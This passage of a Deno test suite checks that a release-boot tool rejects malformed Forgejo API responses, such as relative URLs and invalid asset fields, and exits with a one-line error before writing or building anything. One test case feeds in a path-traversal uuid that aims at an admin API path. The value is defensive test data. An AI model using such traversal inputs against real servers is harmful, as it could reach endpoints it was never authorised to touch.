        /an asset's browser_download_url "::not a url" is not an absolute http\(s\) URL/,
      ],
      [
        "a uuid that climbs out of /attachments",
        (release) => ({
          ...release,
          assets: release.assets.map((asset) => ({ ...asset, uuid: "../../api/v1/admin" })),
        }),
        /an asset's uuid "\.\.\/\.\.\/api\/v1\/admin" is not a UUID/,
      ],
      [
        "a relative release page",
        (release) => ({ ...release, html_url: "ops/runners/releases/tag/x" }),
        /the release's html_url "ops\/runners\/releases\/tag\/x" is not an absolute http\(s\) URL/,
      ],
    ];
    for (const [n, [name, edit, problem]] of cases.entries()) {
      await t.step(name, async () => {
        const tag = `boot-v${n + 1}`;
        await releaseByHand(w, tag, netboot(tag));
        w.forgejo.addFault({
          method: "GET",
          path: `/releases/tags/${tag}`,
          times: 1000,
          fault: { kind: "edit", edit: (release) => edit(release as Listed) },
        });
        const run = await fetchTag(w, out, tag);
        assertOneLineFailure(
          run,
          new RegExp(
            `^release-boot: Forgejo's answer to GET /api/v1/repos/ops/runners/releases/tags/${tag}: unexpected JSON \\(.*${problem.source}.*\\); is ${w.forgejo.url} a Forgejo server\\?$`,
          ),
        );
        assert.deepEqual(await listing(out), [], "nothing was written under DIR");
      });
    }
  }));

Deno.test("a repository page that is empty or relative is a one-line failure of publish, before building", (t) =>
  withWorld(async (w) => {
    for (const html_url of ["", "ops/runners"]) {
      await t.step(JSON.stringify(html_url), async () => {
        w.forgejo.addFault({
          method: "GET",
          path: /\/repos\/ops\/runners$/,
          fault: { kind: "edit", edit: (repository) => ({ ...repository as object, html_url }) },
        });
        const run = await w.publish(["--targets", "netboot"]);
        assertOneLineFailure(
          run,
          new RegExp(
            `^release-boot: Forgejo's answer to GET /api/v1/repos/ops/runners: unexpected JSON \\(.*the repository's html_url ${
              JSON.stringify(html_url)
            } is not an absolute http\\(s\\) URL at html_url\\)`,
          ),
        );
        assert.doesNotMatch(run.stderr, /==> Build/, "refused before any build");
        assert.equal(w.forgejo.releases().length, 0, "no release was made");
      });
    }
  }));
